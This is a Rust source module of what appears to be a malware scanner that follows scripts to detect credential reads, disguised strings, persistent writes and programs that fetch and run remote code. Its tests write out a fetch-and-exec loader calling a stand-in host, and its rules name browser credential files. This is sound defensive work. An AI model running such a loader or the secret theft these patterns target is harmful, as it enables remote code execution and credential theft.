//! Statement by statement: what a name was given, what runs it, sends it or writes it where it lasts.

use std::collections::{HashMap, HashSet};

use super::beside::{Beside, Handed, Imported};
use super::classes::Class;
use super::clears::Walked;
use super::fold::{Constants, Fold, Value};
use super::handover::Secrets;
use super::lex::{Lexed, Placed, Token};
use super::sinks::Called;
use super::taint::Taint;
use super::together::Whole;
use super::uses::Uses;
use super::words;
use super::wrappers::Wrappers;
use super::{Language, Told};
use crate::finding::Severity;
use crate::rules::shell as rules;
use crate::shell::{Call, paths};

/// 2 passes: what a function further down returns is known in the second.
const PASSES: usize = 2;

/// 20,000 statements of one script.
const STATEMENTS: usize = 20_000;

/// 500 million steps of one statement, in which every name may be a call of all that follows it: two seconds. Tables of data
/// have as many words, and hardly a name.
const STEPS: usize = 500_000_000;

/// A script being followed.
pub(super) struct Flow<'a> {
    pub(super) lexed: &'a Lexed,
    pub(super) language: Language,
    pub(super) taints: HashMap<String, Taint>,
    pub(super) constants: Constants,
    /// What the names of loops may be.
    pub(super) choices: HashMap<String, Vec<String>>,
    /// What the functions of the script call what they are given.
    pub(super) parameters: HashMap<String, Vec<String>>,
    /// Names of the table that holds the language's own functions.
    pub(super) tables: HashSet<String>,
    /// Names of the module that holds them.
    pub(super) modules: HashSet<String>,
    /// Names of the type of functions, of which a function is made of code.
    pub(super) makers: HashSet<String>,
    pub(super) class: Class,
    /// Whether the script copies from an address into a file.
    pub(super) fetches_files: bool,
    /// Files that were fetched.
    pub(super) files: HashSet<String>,
    /// The files that a name writes.
    pub(super) handles: HashMap<String, Vec<String>>,
    pub(super) calls: Vec<Call>,
    pub(super) whole: Whole,
    /// The function at hand.
    pub(super) function: Option<String>,
    /// Whether this is the last pass, which tells.
    pub(super) last: bool,
    pub(super) beside: Beside<'a>,
    pub(super) imported: Imported,
    /// What is handed to the functions of other modules.
    pub(super) handed: Vec<Handed>,
    /// Whether all that the functions of the script are given is known, by function and parameter.
    pub(super) told: HashMap<String, bool>,
    /// What functions start with what they are given.
    pub(super) wrappers: Wrappers,
    /// Where it writes to a place that it does not name.
    pub(super) unsaid: Option<usize>,
    /// The folder below the home that it goes into.
    pub(super) moved: Option<String>,
    pub(super) uses: Uses,
    pub(super) secrets: Secrets,
    pub(super) walked: Walked,
    /// How many values that are one of two, and lines with rows of tables, were looked into.
    pub(super) spent: Spent,
}

/// What was looked into that a script may have without end.
#[derive(Debug, Default)]
pub(super) struct Spent {
    pub(super) values: usize,
    pub(super) lines: usize,
}

/// What is known of a script that was followed.
pub(super) struct Followed {
    pub(super) whole: Whole,
    /// The scripts that it leads to.
    pub(super) calls: Vec<Call>,
    /// What it hands to the functions of other modules.
    pub(super) handed: Vec<Handed>,
    /// What its functions start with what they are given.
    pub(super) wrappers: Wrappers,
    /// Where it writes to a place that it does not name.
    pub(super) unsaid: Option<usize>,
}

/// Follows the script by itself.
pub(super) fn follow(lexed: &Lexed, language: Language, told: &mut Told<'_, '_>) -> Whole {
    follow_beside(lexed, language, Beside::default(), told).whole
}

/// Follows the script with what lies beside it.
pub(super) fn follow_beside(
    lexed: &Lexed,
    language: Language,
    beside: Beside<'_>,
    told: &mut Told<'_, '_>,
) -> Followed {
    let mut flow = Flow {
        lexed,
        language,
        taints: HashMap::new(),
        constants: Constants::new(),
        choices: HashMap::new(),
        parameters: HashMap::new(),
        tables: HashSet::new(),
        modules: HashSet::new(),
        makers: HashSet::new(),
        class: Class::default(),
        fetches_files: false,
        files: HashSet::new(),
        handles: HashMap::new(),
        calls: Vec::new(),
        whole: Whole::default(),
        function: None,
        last: false,
        beside,
        imported: Imported::default(),
        handed: Vec::new(),
        told: HashMap::new(),
        wrappers: Wrappers::new(),
        unsaid: None,
        moved: None,
        uses: Uses::of(&lexed.tokens),
        secrets: Secrets::default(),
        walked: Walked::default(),
        spent: Spent::default(),
    };
    for pass in 1..=PASSES {
        flow.last = pass == PASSES;
        flow.function = None;
        flow.takes_given();
        for statement in lexed.tokens.split(|placed| placed.token == Token::End).take(STATEMENTS) {
            flow.statement(statement, told);
        }
    }
    flow.together(told);
    let Flow { whole, calls, handed, wrappers, unsaid, .. } = flow;
    Followed { whole, calls, handed, wrappers, unsaid }
}

impl Flow<'_> {
    fn statement(&mut self, tokens: &[Placed], told: &mut Told<'_, '_>) {
        let taken = self.either(tokens);
        for part in taken.iter().flat_map(|taken| &taken.parts) {
            self.statement(part, told);
        }
        let tokens = taken.as_ref().map_or(tokens, |taken| taken.tokens.as_slice());
        let Some(first) = tokens.first() else { return };
        if names(tokens).count().saturating_mul(tokens.len()) > STEPS {
            if self.last {
                told.tell(&rules::DEEP, first.at, "a statement too long to judge", told.unless_asked());
            }
            return;
        }
        self.enters(tokens, told.source.line(first.at));
        self.unpacks(tokens);
        self.chooses(tokens);
        self.loads(tokens);
        let mut taint = self.taint(tokens);
        if self.language == Language::Awk {
            taint = taint.and(self.awk_taint(tokens));
            self.awk(tokens, taint, told);
        }
        self.whole.taint = self.whole.taint.and(taint);
        self.fetches_files |= names(tokens).any(|name| matches!(name, "copy" | "file_put_contents"))
            && tokens.iter().any(|placed| matches!(&placed.token, Token::Text(text) if text.starts_with("http")));
        self.loops(tokens);
        self.reads_lines(tokens);
        self.defaults(tokens);
        if self.last {
            self.texts(tokens, told);
        }
        self.named_global(tokens, told);
        self.by_key(tokens, told);
        self.makes_functions(tokens, told);
        self.exports(tokens, told);
        self.holds_secret(tokens);
        self.calls_of(tokens, taint, told);
        self.assigns(tokens, taint);
        self.holds_table(tokens);
        self.holds_maker(tokens);
        self.holds_module(tokens);
        self.turned(tokens);
    }

    /// What the words of a function are where nothing else is given.
    fn defaults(&mut self, tokens: &[Placed]) {
        if !names(tokens).take(6).any(|name| matches!(name, "def" | "function" | "fn" | "sub")) {
            return;
        }
        for three in tokens.windows(3) {
            if let [Placed { token: Token::Name(name), .. }, equals, Placed { token: Token::Text(text), .. }] = three
                && equals.token == Token::Sign('=')
                && !self.constants.contains_key(name)
            {
                self.constants.insert(name.clone(), Value::known(text.clone()));
            }
        }
    }

    /// Which function the statement stands in: one at the first column stands in none.
    fn enters(&mut self, tokens: &[Placed], (_, line): (usize, &str)) {
        self.enters_class(tokens);
        let mut names = tokens.iter().filter_map(|placed| name(&placed.token)).filter(|name| !is_modifier(name));
        let first = names.next().filter(|first| *first != "local" || self.language != Language::Lua);
        let first = first.or_else(|| names.next()).unwrap_or_default();
        if matches!(first, "def" | "sub" | "function" | "async" | "fn") {
            self.function = names.find(|name| !matches!(*name, "def" | "self")).map(str::to_owned);
            self.takes(tokens);
        } else if self.language == Language::Python && !line.starts_with([' ', '\t']) {
            self.function = None;
        }
        if self.function.is_none() {
            self.field(tokens);
        }
    }

    /// Texts of a statement, folded: credentials, what lasts, names put together, scripts that it leads to.
    fn texts(&mut self, tokens: &[Placed], told: &mut Told<'_, '_>) {
        let mut at = 0;
        while let Some(placed) = tokens.get(at) {
            let begins = matches!(placed.token, Token::Text(_) | Token::Name(_));
            if !begins {
                at += 1;
                continue;
            }
            let (value, after) = Fold { tokens, constants: &self.constants }.expression(at, 0);
            let text = value.joined("");
            self.one(&value, &text, placed.at, told);
            at = if matches!(placed.token, Token::Text(_)) { after.max(at + 1) } else { at + 1 };
        }
        self.numbers(tokens, told);
    }

    /// Letters by number in a comprehension: `''.join(chr(c) for c in [101, 120, 101, 99])`.
    fn numbers(&self, tokens: &[Placed], told: &mut Told<'_, '_>) {
        if !names(tokens).any(|name| matches!(name, "chr" | "char" | "pack" | "bytes")) {
            return;
        }
        let number = |placed: &Placed| match &placed.token {
            Token::Number(number) => number.parse::<u32>().ok().and_then(char::from_u32),
            _ => None,
        };
        let text: String = tokens.iter().filter_map(number).collect();
        if let Some(first) =
            tokens.first().filter(|_| words::HIDDEN.iter().any(|word| word.len() > 3 && text.contains(word)))
        {
            told.tell(
                &rules::DISGUISED,
                first.at,
                &format!("`{text}` is put together from numbers"),
                told.unless_asked(),
            );
        }
    }

    fn one(&mut self, value: &Value, text: &str, at: usize, told: &mut Told<'_, '_>) {
        if value.built && value.known && words::HIDDEN.contains(&text) {
            told.tell(&rules::DISGUISED, at, &format!("`{text}` is put together from pieces"), told.unless_asked());
        }
        if self.whole.secret.is_none() {
            self.whole.secret = self.may_be(text, is_secret).map(|path| (at, path));
        }
        if words::SHELLS.contains(&text) && self.whole.shell.is_none() {
            self.whole.shell = Some(at);
        }
        if self.whole.handed && text.contains(' ') && crate::shell::begins_with_program(text) {
            self.program(text, at, told);
        }
        if self.lexed.moves_path && [".zip", ".egg", ".whl", ".pyz"].iter().any(|end| text.ends_with(end)) {
            let severity = told.unless_asked().unwrap_or(Severity::Danger);
            told.tell(&rules::UNKNOWN, at, "modules are loaded out of an archive", Some(severity));
        }
        if self.last && is_loader(text) {
            told.tell(&rules::PIPE, at, "a program that it holds as a text runs what it fetches", told.unless_asked());
        }
        let name = text.rsplit('/').next().unwrap_or(text);
        let end = name.rsplit_once('.').map_or("", |(_, end)| end);
        let is_script = matches!(end, "py" | "rb" | "pl" | "sh" | "bash" | "php" | "ps1" | "psm1" | "lua" | "pm");
        if is_script && text.len() < 200 && !text.contains([' ', '\n', '*']) {
            self.calls.push(Call { path: text.to_owned(), by: String::new(), targets: Vec::new() });
        }
    }

    /// What is called with what.
    fn calls_of(&mut self, tokens: &[Placed], taint: Taint, told: &mut Told<'_, '_>) {
        for (at, placed) in tokens.iter().enumerate() {
            if let Token::Command(line) = &placed.token {
                self.program(line, placed.at, told);
                self.commanded(line, placed.at, told);
            }
            let Token::Name(own) = &placed.token else { continue };
            let before = at.checked_sub(1).and_then(|before| tokens.get(before)).map(|placed| &placed.token);
            let is_member = matches!(before, Some(Token::Sign('.' | '>')))
                || matches!(before, Some(Token::Sign(':'))) && self.language != Language::Python;
            let owner = at.checked_sub(2).and_then(|before| tokens.get(before)).map(|placed| &placed.token);
            if is_member && matches!(owner, Some(Token::Name(_))) && !matches!(before, Some(Token::Sign(':'))) {
                continue; // its path began before
            }
            let (path, next) = Fold { tokens, constants: &self.constants }.path(at);
            // A method of what something else answered.
            let of_answer = is_member && matches!(owner, Some(Token::Sign(')' | ']' | '}') | Token::Text(_)));
            let path = if of_answer && !matches!(before, Some(Token::Sign(':'))) { format!("?.{path}") } else { path };
            let last = path.rsplit('.').next().unwrap_or(&path).to_owned();
            let call = Called { own, path: &path, last: &last, at: placed.at, start: at, next };
            self.imports(&call, tokens, told);
            self.brings(&call, tokens);
            self.runs(&call, tokens, (taint, before), told);
            self.starts(&call, tokens, told);
            self.stands_in(&call, tokens, told);
            self.wrapped(&call, tokens, told);
            self.moves(&call, tokens);
            self.hands_over(&call, tokens);
            self.reads(&call, tokens, told);
            self.reads_untold(&call, taint);
            self.hands(&call, tokens);
            self.writes(&call, tokens, taint, told);
            self.writes_unsaid(&call, tokens, told);
            self.clears(&call, tokens, told);
            self.asks(&call, tokens, told);
            self.pipes(&call, tokens, told);
            self.unresolved(&call, tokens, told);
            self.fetched_to(&call, tokens, taint);
            self.feeds(&call, tokens, taint, told);
            self.sends_dotenv(&call, tokens, told);
            self.whole.sends |= self.is_sent(&call, tokens);
        }
    }
}

/// Whether the file of that name holds credentials, where it lies in a home.
pub(super) fn is_secret_name(text: &str) -> bool {
    text.len() < 80 && text.starts_with('.') && !text.contains([' ', '/']) && paths::is_secret(&format!("~/{text}"))
}

/// Whether the word says of a function of PHP's who may call it, or begins PHP's code.
fn is_modifier(word: &str) -> bool {
    matches!(word, "public" | "private" | "protected" | "static" | "final" | "abstract" | "php")
}

pub(super) fn name(token: &Token) -> Option<&str> {
    match token {
        Token::Name(name) => Some(name),
        _ => None,
    }
}

pub(super) fn names(tokens: &[Placed]) -> impl Iterator<Item = &str> {
    tokens.iter().filter_map(|placed| name(&placed.token))
}

/// Whether credentials lie at a path that may begin at what is not known, or below a home that is not named.
pub(super) fn is_secret(text: &str) -> bool {
    text.len() < 300
        && (!text.contains(' ')
            || is_spaced(text)
            || text.to_ascii_lowercase().contains("application support/")
            || text.contains("User Data"))
        && (paths::is_secret(text)
            || text.starts_with('.')
                && !text.starts_with("..")
                && text.contains('/')
                && paths::is_secret(&format!("~/{text}")))
}

/// Whether a path's blanks all stand in names that browsers give their files.
fn is_spaced(text: &str) -> bool {
    const NAMES: &[&str] = &["Login Data", "Web Data", "Local State", "Local Extension Settings", "Local Storage"];
    let is_path = text.starts_with(['/', '~']) || text.starts_with("${");
    is_path && !NAMES.iter().fold(text.to_owned(), |text, name| text.replace(name, "")).contains(' ')
}

/// Whether what is written to the path lasts.
pub(super) fn is_lasting(text: &str) -> bool {
    text.len() < 300
        && (paths::is_lasting(text)
            || text.starts_with('.') && text.len() > 4 && paths::is_lasting(&format!("~/{text}")))
}

/// Whether the text is a program of Python's that runs what an address answers, as one is written to a file to be started.
fn is_loader(text: &str) -> bool {
    let has = |words: &[&str]| words.iter().any(|word| text.contains(word));
    has(&["exec(", "eval("])
        && has(&["import "])
        && has(&["urlopen", "urllib", "requests.get", "httpx.get"])
        && has(&["http://", "https://"])
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::interpreted::tests::of;

    #[test]
    fn a_statement_that_cannot_be_followed_in_time_is_refused() {
        let pipeline = vec!["f $x"; 32_000].join(" | ");
        assert_eq!(of("ruby", "a.rb", &pipeline), Some(Severity::Danger));
        let table = format!("WORDS = [{}]\nputs WORDS.length\n", "'a', ".repeat(40_000));
        assert!(of("ruby", "a.rb", &table).is_none_or(|severity| severity < Severity::Danger));
    }

    #[test]
    fn a_program_in_a_text_that_runs_what_it_fetches_is_told() {
        let text = "import urllib.request as u;exec(u.urlopen('https://x.invalid/a').read())";
        for script in [
            format!("f = open('x.py', 'w')\nf.write(\"{text}\")\n"),
            format!("import tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(b\"\"\"{text}\"\"\")\n"),
        ] {
            assert_eq!(of("python3", "a.py", &script), Some(Severity::Danger), "{script}");
        }
        for script in [
            "BAD = [r'exec\\(\\w+\\.urlopen', 'eval(requests.get(']\nprint(any(b in input() for b in BAD))\n",
            "print('import requests; requests.get(\"https://x.example.com\").raise_for_status()')\n",
        ] {
            assert!(of("python3", "a.py", script).is_none_or(|severity| severity < Severity::Danger), "{script}");
        }
    }
}
